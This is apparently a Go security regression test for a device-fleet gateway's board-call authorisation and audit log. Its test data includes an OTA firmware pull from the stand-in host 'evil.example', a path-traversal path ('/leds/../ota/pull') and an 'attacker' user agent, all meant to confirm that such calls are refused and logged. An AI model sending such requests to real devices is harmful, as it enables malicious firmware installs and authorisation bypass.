package security

import (
	"net/http"
	"slices"
	"strings"
	"testing"

	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/types/known/structpb"

	"github.com/holofleet/holofleet/gateway/audit"
	fleetv1 "github.com/holofleet/holofleet/proto/holo/fleet/v1"
)

// TestOperatorCannotPassThroughCallBoard: an operator's raw board call
// that installs firmware, changes the board's password or network, or
// restarts it is refused on REST and gRPC, and never reaches the board;
// the show paths still work. Before the fix CallBoard needed "operator"
// whatever the path.
func TestOperatorCannotPassThroughCallBoard(t *testing.T) {
	g := runAPI(t, nil, nil)
	body, _ := structpb.NewValue(map[string]any{"url": "http://evil.example/fw.bin"})
	for _, tc := range []struct{ method, path string }{
		{"POST", "/ota/pull"},
		{"PUT", "/ota/image"},
		{"PATCH", "/web"},
		{"GET", "/web"},
		{"PATCH", "/network"},
		{"POST", "/restart"},
		{"PUT", "/fs/file?path=/boot.json"},
		{"post", "/api/v1/ota/pull"},
	} {
		t.Run(tc.method+" "+tc.path, func(t *testing.T) {
			resp, out := g.do(t, "operator", "POST", "/v1/boards/b1/call",
				`{"method":"`+tc.method+`","path":"`+tc.path+`","body":{"url":"http://evil.example/fw.bin"}}`)
			if resp.StatusCode != http.StatusForbidden || !strings.Contains(out, "permission_denied") {
				t.Errorf("REST: %d %s, want 403", resp.StatusCode, out)
			}
			_, err := g.client.CallBoard(g.ctx(t, "operator"), &fleetv1.CallBoardRequest{Id: "b1", Method: tc.method, Path: tc.path, Body: body})
			if status.Code(err) != codes.PermissionDenied {
				t.Errorf("gRPC: %v, want PermissionDenied", err)
			}
			// An admin may.
			resp, out = g.do(t, "admin", "POST", "/v1/boards/b1/call", `{"method":"`+tc.method+`","path":"`+tc.path+`"}`)
			if resp.StatusCode != http.StatusOK {
				t.Errorf("admin: %d %s", resp.StatusCode, out)
			}
		})
	}
	for _, c := range g.fleet.callsMade() {
		if !strings.Contains(c, "/leds") && !strings.HasPrefix(c, "b1 ") {
			t.Errorf("unexpected call %q", c)
		}
	}
	if n := len(g.fleet.callsMade()); n != 8 {
		t.Errorf("%d calls reached the board, want the admin's 8: %v", n, g.fleet.callsMade())
	}
	// A path that changes once normalised is refused to every role
	// (issue 25 row 6: what is authorised is exactly what is sent).
	for _, role := range []string{"operator", "admin"} {
		resp, out := g.do(t, role, "POST", "/v1/boards/b1/call", `{"method":"POST","path":"/leds/../ota/pull"}`)
		if resp.StatusCode != http.StatusBadRequest || !strings.Contains(out, "not canonical") {
			t.Errorf("%s: /leds/../ota/pull: %d %s, want 400 not canonical", role, resp.StatusCode, out)
		}
	}
	if n := len(g.fleet.callsMade()); n != 8 {
		t.Errorf("a non-canonical path reached the board: %v", g.fleet.callsMade())
	}
	// The show paths are still an operator's.
	resp, out := g.do(t, "operator", "POST", "/v1/boards/b1/call", `{"method":"PATCH","path":"/leds","body":{"mode":"rainbow"}}`)
	if resp.StatusCode != http.StatusOK {
		t.Errorf("operator PATCH /leds: %d %s", resp.StatusCode, out)
	}
	if _, err := g.client.CallBoard(g.ctx(t, "operator"), &fleetv1.CallBoardRequest{Id: "b1", Method: "POST", Path: "/scenes/apply"}); err != nil {
		t.Errorf("operator POST /scenes/apply: %v", err)
	}
	// A viewer calls nothing.
	if _, err := g.client.CallBoard(g.ctx(t, "viewer"), &fleetv1.CallBoardRequest{Id: "b1", Method: "GET", Path: "/info"}); status.Code(err) != codes.PermissionDenied {
		t.Errorf("viewer GET /info: %v", err)
	}
}

// TestRefusalsAndChangesAreAudited: the audit log keeps who was refused
// what and who changed what, from REST and gRPC alike, with the caller's
// token, role, address and the targets. Before the fix there was no
// audit log.
func TestRefusalsAndChangesAreAudited(t *testing.T) {
	g := runAPI(t, nil, nil)
	g.do(t, "operator", "POST", "/v1/boards/b2/call", `{"method":"POST","path":"/ota/pull"}`, "User-Agent", "attacker/1")
	_, _ = g.client.DoAction(g.ctx(t, "viewer"), &fleetv1.DoActionRequest{Kind: "leds", Selector: &fleetv1.Selector{Groups: []int32{3}}})
	g.do(t, "", "POST", "/v1/actions", `{"kind":"leds","selector":{"all":true}}`)
	g.do(t, "operator", "POST", "/v1/actions", `{"kind":"leds","selector":{"boards":["b1"]},"body":{"mode":"off"}}`)
	g.do(t, "viewer", "GET", "/v1/boards", "") // reads are not recorded

	es := g.records(t, audit.Filter{})
	if len(es) != 4 {
		t.Fatalf("%d records, want 4: %+v", len(es), es)
	}
	// Newest first.
	allowed, anon, viewer, op := es[0], es[1], es[2], es[3]
	check := func(name string, ok bool, e audit.Entry) {
		t.Helper()
		if !ok {
			t.Errorf("%s: %+v", name, e)
		}
	}
	check("operator's OTA call", op.Token == "t-operator" && op.Role == "operator" && op.Surface == "rest" &&
		op.Call == "POST /ota/pull" && slices.Equal(op.Boards, []string{"b2"}) && op.Outcome == audit.OutcomeDenied &&
		op.Code == "PermissionDenied" && strings.HasPrefix(op.Client, "127.0.0.1:") && op.Agent == "attacker/1", op)
	check("viewer's action", viewer.Token == "t-viewer" && viewer.Surface == "grpc" && viewer.Kind == "leds" &&
		viewer.Selector == "groups=3" && viewer.Outcome == audit.OutcomeDenied, viewer)
	check("anonymous action", anon.Token == "" && anon.Code == "Unauthenticated" && anon.Outcome == audit.OutcomeDenied, anon)
	check("operator's action", allowed.Token == "t-operator" && allowed.Outcome == audit.OutcomeAllowed && allowed.Code == "OK" &&
		slices.Equal(allowed.Boards, []string{"b1"}), allowed)

	// An admin reads the log over REST; an operator may not.
	if resp, out := g.do(t, "admin", "GET", "/v1/audit?outcome=denied&board=b2", ""); resp.StatusCode != 200 || !strings.Contains(out, `"call":"POST /ota/pull"`) || strings.Count(out, `"time"`) != 1 {
		t.Errorf("GET /v1/audit: %d %s", resp.StatusCode, out)
	}
	if resp, _ := g.do(t, "operator", "GET", "/v1/audit", ""); resp.StatusCode != http.StatusForbidden {
		t.Errorf("operator reads the audit log: %d", resp.StatusCode)
	}
}
